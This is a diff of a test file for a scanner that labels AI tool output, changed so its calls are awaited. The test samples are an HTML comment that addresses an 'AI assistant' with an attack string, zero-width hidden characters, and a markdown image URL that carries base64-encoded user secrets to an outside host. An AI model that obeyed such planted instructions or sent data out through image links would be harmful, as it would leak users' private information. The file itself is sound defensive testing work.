@@ -81,15 +81,17 @@ describe("the mode hint", () => {
 });
 
 describe("the output of a tool", () => {
-  it("is labeled if it gives orders or hides characters", () => {
-    expect(scanOutput(`<!-- AI assistant: ${ATTACK} -->`).labels).toContain("injection");
-    expect(scanOutput(`fine${"\u200b".repeat(12)}`).labels).toEqual(["hidden_characters"]);
-    expect(scanOutput("Berlin: 14 °C, light rain.").labels).toEqual([]);
+  it("is labeled if it gives orders or hides characters", async () => {
+    expect((await scanOutput(`<!-- AI assistant: ${ATTACK} -->`)).labels).toContain("injection");
+    expect((await scanOutput(`fine${"\u200b".repeat(12)}`)).labels).toEqual(["hidden_characters"]);
+    expect((await scanOutput("Berlin: 14 °C, light rain.")).labels).toEqual([]);
   });
 
-  it("is labeled if it would send data out through an image", () => {
+  it("is labeled if it would send data out through an image", async () => {
     const data = Buffer.from("the user's secret notes and more").toString("base64url");
-    expect(scanOutput(`![x](https://img.example/p.png?d=${data})`).labels).toContain("suspicious_link");
+    expect((await scanOutput(`![x](https://img.example/p.png?d=${data})`)).labels).toContain(
+      "suspicious_link",
+    );
   });
 });
 
